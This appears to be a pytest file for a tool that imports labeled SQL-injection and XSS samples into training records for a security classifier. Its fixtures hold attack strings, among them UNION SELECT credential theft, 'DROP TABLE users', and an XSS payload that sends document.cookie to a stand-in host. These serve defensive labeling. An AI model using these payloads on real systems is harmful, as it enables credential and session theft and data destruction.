"""Importing labeled CSV / JSONL collections into full four-part records."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from fwyy_ollama.dataset.importer import import_file, parse_label_value
from fwyy_ollama.dataset.records import load_records, record_category, record_label, record_lang
from fwyy_ollama.errors import FwyyError
from fwyy_ollama.report import Label, parse_report

SQLI_CSV = """Query,Label
" or pg_sleep  (  __TIME__  )  --",1
"SELECT name FROM products WHERE id = 4",0
"1' UNION SELECT username, password FROM users--",1
"admin'--",1
"1; DROP TABLE users",1
"hello world",0
"hello   world",0
"",1
"%27%20or%201%3D1",1
"""


def test_csv_query_label_becomes_valid_records(tmp_path: Path) -> None:
    src = tmp_path / "sqli.csv"
    src.write_text(SQLI_CSV, encoding="utf-8")
    out = tmp_path / "out.jsonl"
    result = import_file(src, text_col="Query", label_col="Label", category="sqli", out=out)
    assert result.rows == 9 and result.empty == 1 and result.duplicates == 1
    records = load_records(out)  # validates every record
    assert records == result.records and len(records) == 7
    by_input = {r["input"]: r for r in records}
    assert record_label(by_input["1; DROP TABLE users"]) is Label.CRITICAL
    assert record_label(by_input["1' UNION SELECT username, password FROM users--"]) is Label.HIGH
    assert record_label(by_input["admin'--"]) is Label.HIGH
    assert record_label(by_input["or pg_sleep  (  __TIME__  )  --"]) is Label.MEDIUM
    assert record_label(by_input["hello world"]) is Label.SAFE
    assert record_label(by_input["SELECT name FROM products WHERE id = 4"]) is Label.SAFE
    # URL-encoded payloads are recognised after decoding.
    assert record_label(by_input["%27%20or%201%3D1"]) is Label.HIGH
    assert (
        "UNION SELECT"
        in parse_report(by_input["1' UNION SELECT username, password FROM users--"]["output"]).analysis
    )
    assert {record_category(r) for r in records} == {"sqli"}
    assert {record_lang(r) for r in records} == {"en", "zh"}


def test_jsonl_sentence_label_for_xss(tmp_path: Path) -> None:
    src = tmp_path / "xss.jsonl"
    rows = [
        {"Sentence": "<script>alert(1)</script>", "Label": 1},
        {"Sentence": "<img src=x onerror=\"fetch('//e.test/?'+document.cookie)\">", "Label": "1"},
        {"Sentence": "Nice post, thanks!", "Label": 0},
        {"Sentence": "<b>bold</b>", "Label": "benign"},
        {"Sentence": "<p>hi</p>", "Label": "low"},
    ]
    src.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    result = import_file(src, text_col="Sentence", label_col="Label", category="xss", lang="en")
    labels = [record_label(r) for r in result.records]
    assert labels == [Label.MEDIUM, Label.HIGH, Label.SAFE, Label.SAFE, Label.LOW]
    assert all(record_category(r) == "xss" and record_lang(r) == "en" for r in result.records)
    assert "document.cookie" in result.records[1]["output"]


def test_bad_labels_are_all_reported_with_line_numbers(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("Query,Label\na,1\nb,maybe\nc,2\n", encoding="utf-8")
    with pytest.raises(FwyyError) as info:
        import_file(src, text_col="Query", label_col="Label", category="sqli")
    text = str(info.value)
    assert f"{src}:3: Label: 'maybe'" in text and f"{src}:4: Label: '2'" in text


def test_missing_column_and_bad_options_are_clear(tmp_path: Path) -> None:
    src = tmp_path / "x.csv"
    src.write_text("Text,Label\na,1\n", encoding="utf-8")
    with pytest.raises(FwyyError, match=r"Query: no such column \(columns: Text, Label\)"):
        import_file(src, text_col="Query", label_col="Label", category="sqli")
    with pytest.raises(FwyyError, match="category 'php'"):
        import_file(src, text_col="Text", label_col="Label", category="php")
    with pytest.raises(FwyyError, match="no such file"):
        import_file(tmp_path / "nope.csv", text_col="Text", label_col="Label", category="sqli")


def test_latin1_csv_and_label_spellings(tmp_path: Path) -> None:
    src = tmp_path / "latin.csv"
    src.write_bytes("Query,Label\nCaf\xe9' OR 1=1--,1.0\n".encode("latin-1"))
    result = import_file(src, text_col="Query", label_col="Label", category="sqli")
    assert result.records[0]["input"] == "Café' OR 1=1--"
    assert parse_label_value("恶意") is True and parse_label_value("normal") is False
    assert parse_label_value("高危") is Label.HIGH and parse_label_value(" 0 ") is False


def test_csv_with_an_unnamed_index_column(tmp_path: Path) -> None:
    """The public XSS collection's layout: `,Sentence,Label` with a pandas index first."""
    src = tmp_path / "XSS_dataset.csv"
    src.write_text(
        ',Sentence,Label\n0,"<svg onload=alert(1)>",1\n1,"just text, with a comma",0\n', encoding="utf-8"
    )
    result = import_file(src, text_col="Sentence", label_col="Label", category="xss", lang="zh")
    assert [r["input"] for r in result.records] == ["<svg onload=alert(1)>", "just text, with a comma"]
    assert [record_label(r) for r in result.records] == [Label.MEDIUM, Label.SAFE]
    assert all(record_lang(r) == "zh" and record_category(r) == "xss" for r in result.records)
